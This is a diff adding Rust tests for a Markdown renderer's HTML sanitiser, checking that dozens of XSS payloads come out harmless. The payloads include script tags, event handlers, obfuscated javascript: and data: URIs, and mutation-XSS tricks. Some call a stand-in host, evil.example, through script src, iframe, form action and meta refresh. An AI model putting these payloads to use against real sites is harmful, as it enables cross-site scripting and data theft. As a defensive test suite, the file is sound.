@@ -1,0 +1,188 @@
+//! What contributors must not be able to do.
+
+use super::*;
+
+/// Elements that run, load or send something.
+#[rustfmt::skip]
+const ELEMENTS: [&str; 17] = [
+    "script", "svg", "iframe", "form", "base", "meta", "style", "object", "embed", "link", "button",
+    "textarea", "title", "template", "noscript", "xmp", "video",
+];
+
+#[track_caller]
+fn is_harmless(text: &str) {
+    let html = html(text, &Options::default());
+    for tag in html::tags(&html) {
+        let is_danger = ELEMENTS.contains(&tag.name.as_str());
+        assert!(!is_danger, "<{}> in {html}\nfrom {text}", tag.name);
+        for html::Attribute { name, value, .. } in tag.attributes {
+            let value = value
+                .trim_start_matches(|it: char| it <= ' ')
+                .to_lowercase();
+            let schemes = ["javascript:", "vbscript:", "data:"];
+            let is_danger = name.starts_with("on")
+                || name == "style"
+                || schemes.iter().any(|it| value.starts_with(it));
+            assert!(!is_danger, "{name}={value} in {html}\nfrom {text}");
+        }
+    }
+}
+
+#[test]
+fn attacks_in_html_come_to_nothing() {
+    for text in [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "a <script>alert(1)</script> b",
+        "<scr<script>ipt>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=x oNeRrOr=alert(1)//",
+        "<img/src=x/onerror=alert(1)>",
+        "<img src=\"x` `<script>alert(1)</script>\"` `>",
+        "<div onclick=\"alert(1)\">x</div>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+        "<a href=\"java&#115;cript:alert(1)\">x</a>",
+        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\" &#1; javascript:alert(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
+        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+        "<svg onload=alert(1)></svg>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+        "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<style>body{background:url(javascript:alert(1))}</style>",
+        "<p style=\"position:fixed\">x</p>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<form action=\"https://evil.example\"><input name=a><button>x</button></form>",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<object data=\"x\"></object><embed src=\"x\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<template><script>alert(1)</script></template>",
+        "<textarea><script>alert(1)</script></textarea>",
+        "<title><script>alert(1)</script></title>",
+        "<xmp><script>alert(1)</script></xmp>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<!--><script>alert(1)</script>-->",
+        "<?php echo '<script>alert(1)</script>' ?>",
+    ] {
+        is_harmless(text);
+    }
+}
+
+#[test]
+fn attacks_in_markdown_come_to_nothing() {
+    for text in [
+        "[x](javascript:alert(1))",
+        "[x](JAVASCRIPT:alert(1))",
+        "[x](&#106;avascript:alert(1))",
+        "[x](<java\tscript:alert(1)>)",
+        "[x](\\javascript:alert(1))",
+        "[x](javascript&colon;alert(1))",
+        "[x](vbscript:x)",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        "![x](javascript:alert(1))",
+        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+        "<javascript:alert(1)>",
+        "[x]\n\n[x]: javascript:alert(1)\n",
+        "[x](a.md \"\\\" onmouseover=\\\"alert(1)\")",
+        "[x](a.md\"onmouseover=\"alert(1))",
+        "![\" onerror=\"alert(1)](a.png)",
+        "# x {#\"onclick=\"alert(1)}",
+        "# x {onclick=alert(1)}",
+        "```\" onclick=\"alert(1)\nx\n```",
+        "x[^\" onclick=\"a]\n\n[^\" onclick=\"a]: y\n",
+        "$\\href{javascript:alert(1)}{x}$",
+        "$\\htmlStyle{position:fixed}{x}$",
+        "$\\text{<script>alert(1)</script>}$",
+        "$\\unknown<script>$",
+        "$\\pmb{x}$",
+    ] {
+        is_harmless(text);
+        // With HTML in the page everything goes through the sanitiser.
+        is_harmless(&format!("<b>x</b>\n\n{text}"));
+    }
+}
+
+#[test]
+fn a_forged_mark_is_text() {
+    let text = "<b title=\"\u{e000}0\u{e001}\">\u{e000}7\u{e001}</b> $\\text{\" onclick=\"x}$";
+    is_harmless(text);
+    let html = html(text, &Options::default());
+    assert_eq!(html.matches("<math").count(), 1, "{html}");
+    is_harmless("<b title=\"&#xe000;0&#xe001;\">x</b> $\\text{\" onclick=\"x}$");
+}
+
+#[test]
+fn harmless_html_stays_with_all_that_markdown_makes() {
+    check(
+        "<div class=\"note\" id=\"n\">\n\n*a* <kbd>b</kbd>\n\n</div>\n",
+        "<div class=\"note\" id=\"n\">\n<p><em>a</em> <kbd>b</kbd></p>\n</div>\n",
+    );
+    let body = "# A\n\n- [x] $x$ [^1]\n\n|a|\n|-:|\n|{{ chart() }}|\n\n```c\nx\n```\n\n![i](p.jpg)\n\n3. c\n\n[^1]: n\n";
+    let with = html(&format!("{body}\n<b>x</b>\n"), &Options::default());
+    let without = html(body, &Options::default());
+    let notes = without.find("<section").expect("there is a footnote");
+    let (text, notes) = without.split_at(notes);
+    assert_eq!(with, format!("{text}<p><b>x</b></p>\n{notes}"));
+}
+
+#[test]
+fn what_is_taken_out_is_one_warning() {
+    use FaultKind::HtmlRemoved;
+    for (text, under, what) in [
+        ("a <script>x</script> <form>", "<script", "<script>"),
+        ("<p\nonclick='x'>\n", "<p\nonclick='x'", "onclick="),
+        (
+            "<a href=javascript:x>y</a>",
+            "<a href=javascript:x",
+            "href=",
+        ),
+    ] {
+        let message = format!("HTML that could do harm was taken out, first `{what}`");
+        assert_eq!(faults(text), [(HtmlRemoved, under, message)], "{text}");
+    }
+    assert_eq!(
+        faults("<!-- x --> <b class=\"x\">y</b> <a href=\"x.md\" title='y'>z</a>"),
+        []
+    );
+    let unsafe_link = faults("[x](javascript:y)");
+    assert_eq!(unsafe_link[0].0, FaultKind::UnsafeLink);
+}
+
+#[test]
+fn html_can_be_escaped_or_allowed() {
+    let with = |html_mode, text| {
+        html(
+            text,
+            &Options {
+                html: html_mode,
+                ..Options::default()
+            },
+        )
+    };
+    assert_eq!(
+        with(HtmlMode::Escape, "a <b>b</b>"),
+        "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n"
+    );
+    assert_eq!(
+        with(HtmlMode::Escape, "<script>\nx\n</script>\n"),
+        "<p>&lt;script&gt;\nx\n&lt;/script&gt;</p>\n"
+    );
+    assert_eq!(
+        with(HtmlMode::Allow, "<video controls>\n</video>\n"),
+        "<video controls>\n</video>\n"
+    );
+    let escaping = Options {
+        html: HtmlMode::Escape,
+        ..Options::default()
+    };
+    let scanned = scan("<a href=\"x.md\">", 0, &Formulas::default(), &escaping);
+    assert_eq!(
+        (scanned.links, scanned.faults, scanned.has_html),
+        (vec![], vec![], true)
+    );
+}
